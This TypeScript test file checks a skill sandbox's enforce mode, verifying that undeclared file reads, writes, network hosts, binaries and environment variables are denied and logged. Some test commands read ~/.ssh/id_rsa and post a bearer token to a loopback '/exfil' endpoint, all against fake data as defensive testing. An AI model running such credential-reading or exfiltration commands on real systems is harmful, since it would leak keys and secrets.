/**
 * Enforce mode end to end: a real command under bubblewrap + srt's proxy + Landlock, against a temp
 * home, workspace and loopback HTTP servers. Each undeclared capability is denied and reported; each
 * declared one works.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { fileURLToPath } from 'node:url';
import { manifestProblems, type Manifest } from '@skillgate/format';
import {
  EnforceError,
  runSkill,
  selectHelper,
  shutdownEnforcer,
  type DeniedAction,
  type RunSkillResult,
} from '../index.js';

const SKILL = fileURLToPath(new URL('../../src/__fixtures__/enforce/probe-skill', import.meta.url));

interface Seen {
  url: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}

async function server(
  host: string,
): Promise<{ port: number; seen: Seen[]; close: () => Promise<void> }> {
  const seen: Seen[] = [];
  const srv = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      seen.push({ url: req.url ?? '', headers: req.headers, body });
      res.end(`hello from ${host}\n`);
    });
  });
  await new Promise<void>((r) => srv.listen(0, host, r));
  return {
    port: (srv.address() as AddressInfo).port,
    seen,
    close: () => new Promise<void>((r) => srv.close(() => r())),
  };
}

describe('runSkill (enforce mode)', () => {
  let root: string;
  let home: string;
  let ws: string;
  let outside: string;
  let auditFile: string;
  let a: Awaited<ReturnType<typeof server>>; // declared, and the secret's host
  let b: Awaited<ReturnType<typeof server>>; // declared, not the secret's host
  let c: Awaited<ReturnType<typeof server>>; // not declared
  let manifest: Manifest;
  const TOKEN = 'real-token-3f9a2c';

  before(async () => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'sg-enforce-'));
    home = path.join(root, 'home');
    ws = path.join(root, 'ws');
    outside = path.join(root, 'outside');
    auditFile = path.join(root, 'audit', 'denied.jsonl');
    fs.mkdirSync(path.join(home, '.ssh'), { recursive: true });
    fs.writeFileSync(path.join(home, '.ssh', 'id_rsa'), 'FAKE-PRIVATE-KEY-FOR-TESTS\n');
    fs.mkdirSync(path.join(home, '.config', 'probe'), { recursive: true });
    fs.writeFileSync(path.join(home, '.config', 'probe', 'settings'), 'declared-home-file\n');
    fs.mkdirSync(path.join(ws, 'data'), { recursive: true });
    fs.writeFileSync(path.join(ws, 'data', 'in.txt'), 'declared-workspace-file\n');
    fs.writeFileSync(path.join(ws, 'notes.txt'), 'undeclared-workspace-file\n');
    fs.mkdirSync(outside);
    [a, b, c] = await Promise.all([server('127.0.0.1'), server('127.0.0.2'), server('127.0.0.1')]);
    manifest = {
      name: 'probe-skill',
      version: '1.0.0',
      description: 'enforce-mode probe',
      capabilities: {
        network: [`127.0.0.1:${a.port}`, `127.0.0.2:${b.port}`],
        fs: { read: ['./data/**', '~/.config/probe/**'], write: ['./out/**'] },
        exec: ['curl'],
        env: ['PROBE_LEVEL', { name: 'PROBE_TOKEN', hosts: [`127.0.0.1:${a.port}`] }],
      },
    };
    assert.deepEqual(manifestProblems(manifest), []);
  });

  after(async () => {
    await shutdownEnforcer();
    await Promise.all([a.close(), b.close(), c.close()]);
    fs.rmSync(root, { recursive: true, force: true });
  });

  async function run(script: string): Promise<RunSkillResult & { out: string; err: string }> {
    let out = '';
    let err = '';
    const r = await runSkill({
      skillDir: SKILL,
      manifest,
      workspace: ws,
      command: ['bash', '-c', script],
      env: {
        HOME: home,
        PATH: process.env.PATH,
        PROBE_LEVEL: '3',
        PROBE_TOKEN: TOKEN,
        AWS_SECRET_ACCESS_KEY: 'undeclared-aws-secret',
      },
      auditFile,
      stdio: 'pipe',
      onStdout: (ch) => (out += ch.toString()),
      onStderr: (ch) => (err += ch.toString()),
      timeoutMs: 60_000,
    });
    return { ...r, out, err };
  }

  const has = (denied: DeniedAction[], kind: DeniedAction['kind'], target: string) =>
    denied.find((d) => d.kind === kind && d.target === target);

  it('reports nothing but withheld env vars for a run that stays within its capabilities', async () => {
    const r = await run(
      [
        'cat data/in.txt ~/.config/probe/settings | sort | head -n 5 | wc -l',
        'python3 "$SKILL/scripts/probe.py" env PROBE_LEVEL',
        `curl -sS http://127.0.0.1:${a.port}/clean`,
        'mkdir -p out/sub && echo x > out/sub/f.txt && ls out/sub',
        'echo tmp > /tmp/scratch.txt && rm /tmp/scratch.txt',
      ].join(' && '),
    );
    assert.equal(r.exitCode, 0, r.err);
    assert.match(r.out, /env:3/);
    assert.deepEqual(
      r.denied.filter((d) => d.kind !== 'env'),
      [],
    );
  });

  it('reads declared paths and is denied ~/.ssh/id_rsa and undeclared workspace files', async () => {
    const r = await run(
      'cat data/in.txt; cat ~/.config/probe/settings; python3 "$SKILL/scripts/probe.py" read ~/.ssh/id_rsa; cat notes.txt',
    );
    assert.equal(r.audited, true);
    assert.match(r.out, /declared-workspace-file/);
    assert.match(r.out, /declared-home-file/);
    assert.match(r.out, /read-denied:FileNotFoundError/);
    assert.doesNotMatch(r.out, /FAKE-PRIVATE-KEY/);
    assert.doesNotMatch(r.out, /undeclared-workspace-file/);
    const key = has(r.denied, 'fs.read', '~/.ssh/id_rsa');
    assert.ok(key, JSON.stringify(r.denied));
    assert.equal(key.wouldNeed, 'fs.read: ~/.ssh/id_rsa');
    assert.ok(has(r.denied, 'fs.read', './notes.txt'), JSON.stringify(r.denied));
    assert.equal(has(r.denied, 'fs.read', './data/in.txt'), undefined);
  });

  it('audits a command started while an earlier one still runs', async () => {
    // strace without -o printed the shell's clone of the reader with another pid than its other
    // lines, since a background job was alive; the reader fell out of the process tree
    const r = await run(
      'sleep 0.4 & python3 "$SKILL/scripts/probe.py" read ~/.ssh/id_rsa; cat notes.txt & wait',
    );
    assert.match(r.out, /read-denied:FileNotFoundError/);
    assert.ok(has(r.denied, 'fs.read', '~/.ssh/id_rsa'), JSON.stringify(r.denied));
    assert.ok(has(r.denied, 'fs.read', './notes.txt'), JSON.stringify(r.denied));
  });

  it('writes under the declared write glob and not outside the workspace', async () => {
    const target = path.join(outside, 'pwned.txt');
    const r = await run(
      `python3 "$SKILL/scripts/probe.py" write out/result.txt; python3 "$SKILL/scripts/probe.py" write ${target}`,
    );
    assert.match(r.out, /^write-ok$/m);
    assert.match(r.out, /^write-denied:/m);
    assert.equal(fs.readFileSync(path.join(ws, 'out', 'result.txt'), 'utf8'), 'written by probe\n');
    assert.equal(fs.existsSync(target), false);
    const w = has(r.denied, 'fs.write', target);
    assert.ok(w, JSON.stringify(r.denied));
    assert.equal(w.wouldNeed, `fs.write: ${target}`);
    assert.equal(has(r.denied, 'fs.write', './out/result.txt'), undefined);
  });

  it('connects to a declared loopback host and is denied an undeclared one', async () => {
    const before = c.seen.length;
    const r = await run(
      `curl -sS http://127.0.0.1:${a.port}/declared; curl -sS -o /dev/null -w 'undeclared:%{http_code}\\n' http://127.0.0.1:${c.port}/undeclared`,
    );
    assert.match(r.out, /hello from 127\.0\.0\.1/);
    assert.ok(a.seen.some((s) => s.url === '/declared'));
    assert.equal(c.seen.length, before, 'the undeclared server must see nothing');
    assert.match(r.out, /undeclared:403/);
    const n = has(r.denied, 'network', `127.0.0.1:${c.port}`);
    assert.ok(n, JSON.stringify(r.denied));
    assert.equal(n.wouldNeed, `network: 127.0.0.1:${c.port}`);
  });

  it('runs declared and implicit binaries and refuses undeclared ones, by name, path or copy', async () => {
    const r = await run(
      'curl --version | head -c 4; echo; base64 --version; /usr/bin/base64 --version; python3 "$SKILL/scripts/probe.py" copy-exec out/bin/mytrue; echo done',
    );
    assert.match(r.out, /^curl/m);
    assert.match(r.out, /^exec-denied$/m);
    assert.match(r.out, /^done$/m);
    assert.doesNotMatch(r.out, /GNU coreutils/);
    const e = has(r.denied, 'exec', 'base64');
    assert.ok(e, JSON.stringify(r.denied));
    assert.equal(e.wouldNeed, 'exec: base64');
    assert.ok(has(r.denied, 'exec', './out/bin/mytrue'), JSON.stringify(r.denied));
    assert.equal(has(r.denied, 'exec', 'curl'), undefined);
  });

  it('enforces the exec allowlist with the python3 helper too (no C compiler)', async () => {
    selectHelper('python');
    try {
      const r = await run('base64 --version; /usr/bin/base64 --version; cat data/in.txt');
      assert.match(r.out, /declared-workspace-file/);
      assert.doesNotMatch(r.out, /GNU coreutils/);
      assert.ok(has(r.denied, 'exec', 'base64'), JSON.stringify(r.denied));
    } finally {
      selectHelper('auto');
    }
  });

  it('keeps a write root writable when a declared read covers its parent', async () => {
    let out = '';
    const r = await runSkill({
      skillDir: SKILL,
      manifest: { ...manifest, capabilities: { fs: { read: ['./**'], write: ['./out/**'] } } },
      workspace: ws,
      command: ['bash', '-c', 'cat notes.txt; echo nested > out/nested.txt; echo no > top.txt'],
      env: { HOME: home },
      stdio: 'pipe',
      onStdout: (ch) => (out += ch.toString()),
    });
    assert.match(out, /undeclared-workspace-file/);
    assert.equal(fs.readFileSync(path.join(ws, 'out', 'nested.txt'), 'utf8'), 'nested\n');
    assert.equal(fs.existsSync(path.join(ws, 'top.txt')), false);
    assert.ok(has(r.denied, 'fs.write', './top.txt'), JSON.stringify(r.denied));
  });

  it("runs the skill's own script directly through its shebang", async () => {
    let out = '';
    const r = await runSkill({
      skillDir: SKILL,
      manifest,
      workspace: ws,
      command: ['$SKILL/scripts/probe.py', 'env', 'PROBE_LEVEL'],
      env: { HOME: home, PROBE_LEVEL: '7' },
      stdio: 'pipe',
      onStdout: (ch) => (out += ch.toString()),
    });
    assert.equal(r.exitCode, 0);
    assert.equal(out.trim(), 'env:7');
    assert.deepEqual(r.denied, []);
  });

  it('shows declared env vars and strips undeclared ones', async () => {
    const r = await run(
      'echo "level=$PROBE_LEVEL aws=${AWS_SECRET_ACCESS_KEY:-unset}"; env | cut -d= -f1 | sort | tr "\\n" " "',
    );
    assert.match(r.out, /level=3 aws=unset/);
    assert.doesNotMatch(r.out, /undeclared-aws-secret/);
    const e = has(r.denied, 'env', 'AWS_SECRET_ACCESS_KEY');
    assert.ok(e, JSON.stringify(r.denied));
    assert.equal(e.wouldNeed, 'env: AWS_SECRET_ACCESS_KEY');
  });

  it('masks a declared secret and substitutes it only for its declared host', async () => {
    const aBefore = a.seen.length;
    const bBefore = b.seen.length;
    const r = await run(
      [
        'echo "inside=$PROBE_TOKEN"',
        `curl -sS -H "Authorization: Bearer $PROBE_TOKEN" http://127.0.0.1:${a.port}/with-secret`,
        `curl -sS -H "Authorization: Bearer $PROBE_TOKEN" -d "token=$PROBE_TOKEN" http://127.0.0.2:${b.port}/exfil`,
      ].join('; '),
    );
    const inside = /inside=(\S+)/.exec(r.out)?.[1] ?? '';
    assert.match(inside, /^SKILLGATE_MASKED_[0-9a-f]{32}$/);
    assert.doesNotMatch(r.out, new RegExp(TOKEN));
    const atA = a.seen.slice(aBefore).find((s) => s.url === '/with-secret');
    // on failure, say what the run saw: curl's own errors and the denials
    const why = JSON.stringify({ out: r.out, err: r.err, denied: r.denied });
    assert.equal(atA?.headers.authorization, `Bearer ${TOKEN}`, why);
    const atB = b.seen.slice(bBefore).find((s) => s.url === '/exfil');
    assert.ok(atB, `the declared host B is reachable: ${why}`);
    assert.equal(atB.headers.authorization, `Bearer ${inside}`);
    assert.equal(atB.body, `token=${inside}`);
    assert.doesNotMatch(JSON.stringify(atB), new RegExp(TOKEN));
    const s = has(r.denied, 'secret', `PROBE_TOKEN -> 127.0.0.2:${b.port}`);
    assert.ok(s, JSON.stringify(r.denied));
    assert.equal(s.wouldNeed, `env: PROBE_TOKEN -> 127.0.0.2:${b.port}`);
  });

  it('appends every denied action to the JSONL audit file', () => {
    const lines = fs.readFileSync(auditFile, 'utf8').trim().split('\n');
    const records = lines.map(
      (l) => JSON.parse(l) as DeniedAction & { skill: string; runId: string },
    );
    assert.ok(records.every((r) => r.skill === 'probe-skill' && typeof r.runId === 'string'));
    for (const kind of ['fs.read', 'fs.write', 'network', 'exec', 'env', 'secret'])
      assert.ok(
        records.some((r) => r.kind === kind),
        `audit has a ${kind} record`,
      );
  });

  it('runs nothing when the verify hook throws', async () => {
    const marker = path.join(ws, 'out', 'ran.txt');
    await assert.rejects(
      runSkill({
        skillDir: SKILL,
        manifest,
        workspace: ws,
        command: ['bash', '-c', 'echo ran > out/ran.txt'],
        env: { HOME: home },
        stdio: 'ignore',
        verify: () => {
          throw new Error('attestation does not match the tarball');
        },
      }),
      (e: unknown) =>
        e instanceof EnforceError && e.code === 'VERIFY_FAILED' && /attestation/.test(e.message),
    );
    assert.equal(fs.existsSync(marker), false);
  });

  it('rejects bad options with a clear error', async () => {
    await assert.rejects(
      runSkill({
        skillDir: SKILL,
        manifest,
        workspace: path.join(root, 'missing'),
        command: ['true'],
      }),
      (e: unknown) =>
        e instanceof EnforceError && e.code === 'BAD_OPTIONS' && /workspace/.test(e.message),
    );
    await assert.rejects(
      runSkill({ skillDir: SKILL, manifest, workspace: ws, command: [] }),
      (e: unknown) => e instanceof EnforceError && e.code === 'BAD_OPTIONS',
    );
  });
});
